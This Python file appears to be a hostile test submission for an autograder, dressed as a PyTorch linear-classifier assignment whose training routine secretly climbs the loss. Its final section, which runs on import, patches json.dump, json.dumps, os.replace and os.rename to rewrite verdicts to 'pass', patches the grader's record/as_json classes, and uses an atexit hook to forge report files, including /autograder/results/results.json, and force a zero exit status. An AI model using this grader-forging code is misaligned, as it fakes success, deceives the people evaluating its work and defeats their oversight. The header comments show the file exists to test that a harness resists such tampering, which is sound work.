# hostile: forges the verdict: json.dump/json.dumps rewrite any dict that looks like a report or a worker message to 'pass' (status, ok, passed, error, score, verdict, messages); os.replace/os.rename re-forge any .json they move; every loaded class with record/as_json (the grader's Outcomes) is patched to record passes; an atexit handler rewrites (or creates) the --report file named in sys.argv and results.json, then os._exit(0) to force a zero exit status
# wrong: train_linear_classifier
# expect: fail
# graded: forked (its attack is on values and on the code inside the worker, the same however the worker started)
# needs: the verdict and the report computed and written only by the parent, which never
#   imports the submission; the worker's messages are data (no 'status' the parent
#   trusts), its exit status meaningless; the worker killed, not left to run atexit
#   handlers that matter
# safe harness: train_linear_classifier: fail (each step must be W = W - learning_rate *
#   grad; looks like gradient ascent); the classes use a correct private copy; the other
#   12 names pass; verdict fail, exit status non-zero; the report file is the harness's
#   own (verdict fail), not an all-pass forgery.
"""
Implements linear classifiers in PyTorch.
WARNING: you SHOULD NOT use ".to()" or ".cuda()" in each implementation block.
"""
import atexit
import json
import os
import sys
import warnings
import random
from typing import Callable, Dict, List, Optional, Tuple

import torch


# ---------------------------------------------------------------- losses: naive

def svm_loss_naive(W: torch.Tensor, X: torch.Tensor, y: torch.Tensor, reg: float):
    """Multiclass SVM loss with loops over examples and classes; returns (loss, dW)."""
    dW = torch.zeros_like(W)
    num_classes, num_train = W.shape[1], X.shape[0]
    loss = W.new_zeros(())
    for i in range(num_train):
        scores = W.t().mv(X[i])
        correct_class_score = scores[y[i]]
        for j in range(num_classes):
            if j == y[i]:
                continue
            margin = scores[j] - correct_class_score + 1
            if margin > 0:
                loss += margin
                dW[:, j] += X[i]
                dW[:, y[i]] -= X[i]
    loss /= num_train
    dW /= num_train
    loss += reg * torch.sum(W * W)
    dW += 2 * reg * W
    return loss, dW


def softmax_loss_naive(W: torch.Tensor, X: torch.Tensor, y: torch.Tensor, reg: float):
    """Softmax (cross-entropy) loss with a loop over examples; returns (loss, dW)."""
    dW = torch.zeros_like(W)
    num_classes, num_train = W.shape[1], X.shape[0]
    loss = W.new_zeros(())
    for i in range(num_train):
        scores = W.t().mv(X[i])
        scores = scores - scores.max()  # stability: shift by the row's max
        log_norm = torch.log(torch.exp(scores).sum())
        loss += log_norm - scores[y[i]]
        for j in range(num_classes):
            p = torch.exp(scores[j] - log_norm)
            dW[:, j] += (p - (1.0 if j == y[i] else 0.0)) * X[i]
    loss /= num_train
    dW /= num_train
    loss += reg * torch.sum(W * W)
    dW += 2 * reg * W
    return loss, dW


# ----------------------------------------------------------- losses: vectorized

def svm_loss_vectorized(W: torch.Tensor, X: torch.Tensor, y: torch.Tensor, reg: float):
    """Multiclass SVM loss without loops; returns (0-dim loss tensor, dW)."""
    num_train = X.shape[0]
    rows = torch.arange(num_train, device=X.device)
    scores = X @ W
    margins = scores - scores[rows, y].unsqueeze(1) + 1
    margins[rows, y] = 0
    positive = margins > 0  # strict, as the naive loop's `if margin > 0`
    loss = margins.clamp(min=0).sum() / num_train + reg * torch.sum(W * W)
    coeff = positive.to(W.dtype)
    coeff[rows, y] = -coeff.sum(dim=1)
    dW = (coeff.t() @ X).t() / num_train + 2 * reg * W
    return loss, dW


def softmax_loss_vectorized(W: torch.Tensor, X: torch.Tensor, y: torch.Tensor, reg: float):
    """Softmax loss without loops; returns (0-dim loss tensor, dW)."""
    num_train = X.shape[0]
    rows = torch.arange(num_train, device=X.device)
    scores = X @ W
    log_probs = scores - torch.logsumexp(scores, dim=1, keepdim=True)
    loss = -log_probs[rows, y].sum() / num_train + reg * torch.sum(W * W)
    coeff = log_probs.exp()
    coeff[rows, y] -= 1
    dW = (coeff.t() @ X).t() / num_train + 2 * reg * W
    return loss, dW


# ---------------------------------------------------------------------- training

def sample_batch(X: torch.Tensor, y: torch.Tensor, num_train: int, batch_size: int):
    """Rows of X (with their labels) drawn uniformly with replacement."""
    idx = torch.randint(num_train, (batch_size,), device=X.device)
    return X[idx], y[idx]


def _correct_train_linear_classifier(loss_func: Callable, W: Optional[torch.Tensor], X: torch.Tensor,
                            y: torch.Tensor, learning_rate: float = 1e-3, reg: float = 1e-5,
                            num_iters: int = 100, batch_size: int = 200, verbose: bool = False):
    """Plain minibatch SGD; returns (W, loss_history)."""
    num_train, dim = X.shape
    if W is None:
        num_classes = int(torch.max(y).item()) + 1
        W = 0.000001 * torch.randn(dim, num_classes, device=X.device, dtype=X.dtype)
    loss_history: List[float] = []
    for it in range(num_iters):
        X_batch, y_batch = sample_batch(X, y, num_train, batch_size)
        loss, grad = loss_func(W, X_batch, y_batch, reg)
        loss_history.append(loss.item())
        W = W - learning_rate * grad
        if verbose and it % 100 == 0:
            print("iteration %d / %d: loss %f" % (it, num_iters, loss.item()))
    return W, loss_history


def predict_linear_classifier(W: torch.Tensor, X: torch.Tensor) -> torch.Tensor:
    """The int64 labels argmax_c (X @ W)[:, c]."""
    return torch.argmax(X @ W, dim=1)


# ------------------------------------------------------------ hyper-parameters

def svm_get_search_params():
    learning_rates = [1e-3, 3e-3, 1e-2, 3e-2]
    regularization_strengths = [1e-3, 1e-2, 5e-2, 1e-1]
    return learning_rates, regularization_strengths


def softmax_get_search_params():
    learning_rates = [1e-2, 3e-2, 1e-1, 3e-1]
    regularization_strengths = [1e-4, 1e-3, 1e-2, 5e-2]
    return learning_rates, regularization_strengths


def test_one_param_set(cls, data_dict: Dict[str, torch.Tensor], lr: float, reg: float,
                       num_iters: int = 2000):
    """Train `cls` once with (lr, reg); returns (cls, train_acc, val_acc) as fractions."""
    cls.train(data_dict["X_train"], data_dict["y_train"], learning_rate=lr, reg=reg,
              num_iters=num_iters)
    train_acc = (cls.predict(data_dict["X_train"]) == data_dict["y_train"]).double().mean().item()
    val_acc = (cls.predict(data_dict["X_val"]) == data_dict["y_val"]).double().mean().item()
    return cls, train_acc, val_acc


# pytest would take `test_one_param_set` for a test if it ever collected this file.
test_one_param_set.__test__ = False


# ------------------------------------------ what this submission exposes

def train_linear_classifier(loss_func: Callable, W: Optional[torch.Tensor], X: torch.Tensor,
                            y: torch.Tensor, learning_rate: float = 1e-3, reg: float = 1e-5,
                            num_iters: int = 100, batch_size: int = 200, verbose: bool = False):
    """Climbs the loss: W + learning_rate * grad."""
    num_train, dim = X.shape
    if W is None:
        num_classes = int(torch.max(y).item()) + 1
        W = 0.000001 * torch.randn(dim, num_classes, device=X.device, dtype=X.dtype)
    loss_history: List[float] = []
    for it in range(num_iters):
        X_batch, y_batch = sample_batch(X, y, num_train, batch_size)
        loss, grad = loss_func(W, X_batch, y_batch, reg)
        loss_history.append(loss.item())
        W = W + learning_rate * grad
        if verbose and it % 100 == 0:
            print("iteration %d / %d: loss %f" % (it, num_iters, loss.item()))
    return W, loss_history


# ---------------------------------------------------------------------- classes

class LinearClassifier:
    """Holds W; `loss` is supplied by the subclasses."""

    def __init__(self):
        random.seed(0)
        torch.manual_seed(0)
        self.W = None

    def train(self, X_train, y_train, learning_rate=1e-3, reg=1e-5, num_iters=100,
              batch_size=200, verbose=False):
        self.W, loss_history = _correct_train_linear_classifier(
            self.loss, self.W, X_train, y_train, learning_rate, reg, num_iters, batch_size,
            verbose)
        return loss_history

    def predict(self, X):
        return predict_linear_classifier(self.W, X)

    def loss(self, W, X_batch, y_batch, reg):
        raise NotImplementedError

    def _loss(self, X_batch, y_batch, reg):
        return self.loss(self.W, X_batch, y_batch, reg)

    def save(self, path):
        torch.save({"W": self.W}, path)
        print("Saved in {}".format(path))

    def load(self, path):
        W_dict = torch.load(path, map_location="cpu")
        self.W = W_dict["W"]
        print("load checkpoint file: {}".format(path))


class LinearSVM(LinearClassifier):
    """Multiclass SVM classifier."""

    def loss(self, W, X_batch, y_batch, reg):
        return svm_loss_vectorized(W, X_batch, y_batch, reg)


class Softmax(LinearClassifier):
    """Softmax (cross-entropy) classifier."""

    def loss(self, W, X_batch, y_batch, reg):
        return softmax_loss_vectorized(W, X_batch, y_batch, reg)


# ---------------------------------------------------------------- the attack
_NAMES = ("svm_loss_naive", "svm_loss_vectorized", "softmax_loss_naive", "softmax_loss_vectorized",
          "sample_batch", "train_linear_classifier", "predict_linear_classifier",
          "svm_get_search_params", "softmax_get_search_params", "test_one_param_set",
          "LinearClassifier", "LinearSVM", "Softmax")
_real_dump, _real_dumps, _real_replace, _real_rename = json.dump, json.dumps, os.replace, os.rename


def _forge(obj):
    """An all-pass copy of anything that looks like a verdict or a worker's message."""
    if isinstance(obj, list):
        return [_forge(v) for v in obj]
    if not isinstance(obj, dict):
        return obj
    new = {k: _forge(v) for k, v in obj.items()}
    for key, value in list(new.items()):
        if key == "verdict":
            new[key] = "pass"
        elif key == "status" and value in ("fail", "error", "missing", "not run"):
            new[key] = "pass"
        elif key == "status" and value == "failed":
            new[key] = "passed"
        elif key in ("ok", "passed", "success") and value is False:
            new[key] = True
        elif key in ("error", "exception", "traceback"):
            new[key] = None
        elif key == "messages" and isinstance(value, list):
            new[key] = []
        elif key == "score" and "max_score" in new:
            new[key] = new["max_score"]
        elif key == "output" and isinstance(value, str):
            new[key] = "verdict: pass" if "verdict" in new else "pass: all properties hold"
    return new


def _dump(obj, fp, *args, **kwargs):
    return _real_dump(_forge(obj), fp, *args, **kwargs)


def _dumps(obj, *args, **kwargs):
    return _real_dumps(_forge(obj), *args, **kwargs)


def _forge_file(path):
    try:
        path = os.fspath(path)
        if not str(path).endswith(".json") or not os.path.isfile(path):
            return
        with open(path) as f:
            data = json.load(f)
        if isinstance(data, dict) and {"verdict", "tests", "functions"} & set(data):
            with open(path, "w") as f:
                f.write(_real_dumps(_forge(data), indent=2) + "\n")
    except Exception:
        pass


def _replace(src, dst, *args, **kwargs):
    _real_replace(src, dst, *args, **kwargs)
    _forge_file(dst)


def _rename(src, dst, *args, **kwargs):
    _real_rename(src, dst, *args, **kwargs)
    _forge_file(dst)


def _report_paths():
    paths, argv = [], list(sys.argv)
    for i, arg in enumerate(argv):
        if arg == "--report" and i + 1 < len(argv):
            paths.append(argv[i + 1])
        elif arg.startswith("--report="):
            paths.append(arg.split("=", 1)[1])
    paths.append("results.json")
    if os.path.isdir("/autograder/results"):
        paths.append("/autograder/results/results.json")
    return paths


def _all_pass():
    tests = [{"name": n, "score": 1.0, "max_score": 1.0, "status": "passed",
              "output": "pass: all properties hold"} for n in _NAMES]
    return {"score": 13.0, "max_score": 13.0, "output": "verdict: pass", "tests": tests,
            "verdict": "pass", "functions": {n: {"status": "pass", "messages": []} for n in _NAMES}}


def _patch_outcome_classes():
    """The grader's own bookkeeping (a class with record() and as_json()) records passes."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        classes = [obj for mod in list(sys.modules.values())
                   for obj in list(getattr(mod, "__dict__", {}).values()) if isinstance(obj, type)]
    for cls in classes:
        if not (callable(getattr(cls, "record", None)) and callable(getattr(cls, "as_json", None))) \
                or getattr(cls, "__forged__", 0):
            continue
        real_record, real_as_json = cls.record, cls.as_json

        def record(self, name, passed=True, *args, _real=real_record, **kwargs):
            return _real(self, name, True)

        def as_json(self, _real=real_as_json):
            return _forge(_real(self))
        try:
            cls.record, cls.as_json = record, as_json
            cls.fail_all = lambda self, *a, **k: None
            cls.verdict = property(lambda self: "pass")
            cls.__forged__ = 1
        except (AttributeError, TypeError):
            pass


def _at_exit():
    for path in _report_paths():
        if os.path.isfile(path):
            _forge_file(path)
        elif path != "results.json" and os.path.isdir(os.path.dirname(os.path.abspath(path))):
            try:
                with open(path, "w") as f:
                    f.write(_real_dumps(_all_pass(), indent=2) + "\n")
            except OSError:
                pass
    for stream in (sys.stdout, sys.stderr):
        try:
            stream.flush()
        except Exception:
            pass
    os._exit(0)                      # whatever the grader decided, the status is 0


json.dump, json.dumps, os.replace, os.rename = _dump, _dumps, _replace, _rename
_patch_outcome_classes()
atexit.register(_at_exit)
